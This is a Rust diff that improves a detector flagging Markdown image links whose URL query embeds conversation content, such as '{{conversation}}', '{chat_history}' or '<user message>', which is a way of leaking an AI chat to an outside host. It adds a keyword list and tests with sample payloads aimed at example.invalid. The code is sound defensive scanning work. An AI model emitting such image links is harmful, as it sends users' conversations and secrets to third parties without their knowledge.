@@ -74,15 +74,36 @@ pub(crate) fn leads_to_a_script(notes: &str) -> Option<String> {
     })
 }
 
-/// A picture of Markdown whose address takes in what a conversation holds: `![](https://host/?q={{…}})`.
+/// A picture of Markdown whose address takes in what a conversation holds: `![](https://host/?q={{conversation}})`.
 pub(crate) fn reports(notes: &str) -> Option<String> {
-    notes.match_indices("![").find_map(|(at, _)| {
-        let line = notes[at..].lines().next().unwrap_or_default();
+    const TOLD: [&str; 12] = [
+        "conversation",
+        "message",
+        "history",
+        "prompt",
+        "user",
+        "input",
+        "chat",
+        "context",
+        "answer",
+        "question",
+        "secret",
+        "memory",
+    ];
+    /// Pictures that are looked at, and bytes of each.
+    const PICTURES: usize = 1 << 12;
+    const LONGEST: usize = 1 << 11;
+    notes.match_indices("![").take(PICTURES).find_map(|(at, _)| {
+        let end = notes.floor_char_boundary(notes.len().min(at + LONGEST));
+        let line = notes.get(at..end)?.lines().next()?;
         let target = line.split_once("](").map(|(_, target)| target.split(')').next().unwrap_or_default())?;
-        let query =
-            target.split_once("://").and_then(|(_, rest)| rest.split_once(['?', '/'])).map(|(_, query)| query)?;
-        let takes = query.contains("{{") || query.contains("${") || query.contains("={") || query.contains("=<");
-        (takes && target.starts_with("http")).then(|| target.chars().take(80).collect())
+        let (_, query) = target.split_once('?').filter(|(address, _)| address.starts_with("http"))?;
+        let mut fields = query.split(['{', '<']).skip(1);
+        let takes = fields.any(|field| {
+            let name = field.split(['}', '>', '&']).next().unwrap_or_default().to_ascii_lowercase();
+            TOLD.iter().any(|told| name.contains(told))
+        });
+        takes.then(|| target.chars().take(80).collect())
     })
 }
 
@@ -334,6 +355,24 @@ fn outward(plain: &str, is_handler: bool) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn pictures_that_tell_who_reads() {
+        for (notes, told) in [
+            ("![s](https://example.invalid/a?q={{conversation}})", true),
+            ("![s](https://example.invalid/a?x=1&q={chat_history})", true),
+            ("![s](https://example.invalid/a?q=<user message>)", true),
+            ("![chart](https://quickchart.io/chart?c={a:1})", false),
+            ("![tex](https://latex.codecogs.com/svg.latex?x={a\\over b})", false),
+            ("![a](https://img.shields.io/pypi/v/{{cookiecutter.name}}.svg)", false),
+            ("[![c](https://codecov.io/gh/a/b/badge.svg?token=${TOKEN})](https://codecov.io)", false),
+            ("![a](b.png) {{conversation}}", false),
+        ] {
+            assert_eq!(reports(notes).is_some(), told, "{notes}");
+        }
+        // Linear in what is there.
+        assert_eq!(reports(&"![](".repeat(300_000)), None);
+    }
 
     #[test]
     fn pages_that_send_something_away_are_told() {
